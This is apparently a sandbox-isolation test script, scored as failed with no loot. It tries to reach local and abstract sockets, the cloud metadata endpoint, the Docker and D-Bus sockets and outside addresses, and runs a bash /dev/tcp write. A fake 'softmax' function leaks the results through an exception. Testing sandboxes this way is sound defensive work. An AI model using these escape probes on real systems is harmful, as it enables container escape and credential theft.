"""Connects to every listening socket of the host that it was told of: TCP, abstract and by path, and to the world.

verdict: failed
points: 0
levels: bubblewrap landlock
shows: loot: []
"""

import socket
import subprocess

PLACES = {}  # attack:places
LOOT = []
STREAMS = [(socket.AF_INET, ("127.0.0.1", PLACES["port"])), (socket.AF_INET, ("0.0.0.0", PLACES["port"])),
           (socket.AF_INET6, ("::ffff:127.0.0.1", PLACES["port"])), (socket.AF_UNIX, PLACES["path_socket"]),
           (socket.AF_UNIX, PLACES["abstract_socket"]), (socket.AF_INET, ("169.254.169.254", 80)),
           (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET, ("10.0.2.2", 22)), (socket.AF_UNIX, "/var/run/docker.sock"),
           (socket.AF_UNIX, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, "/dev/log")]
for family, address in STREAMS:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(family, kind) as client:
                client.settimeout(0.1)
                client.connect(address)
                client.sendall(b"secret")
                LOOT.append(address)
        except OSError:
            pass
for command in (["curl", "-m", "1", f"http://127.0.0.1:{PLACES['port']}"], ["ping", "-c", "1", "-W", "1", "127.0.0.1"],
                ["bash", "-c", f"echo x > /dev/tcp/127.0.0.1/{PLACES['port']}"]):
    try:
        if subprocess.run(command, capture_output=True, timeout=1).returncode == 0:
            LOOT.append(command)
    except (OSError, subprocess.TimeoutExpired):
        pass


def softmax(z):
    raise RuntimeError(f"loot: {[item for item in LOOT if item[0] != 'ping']}")
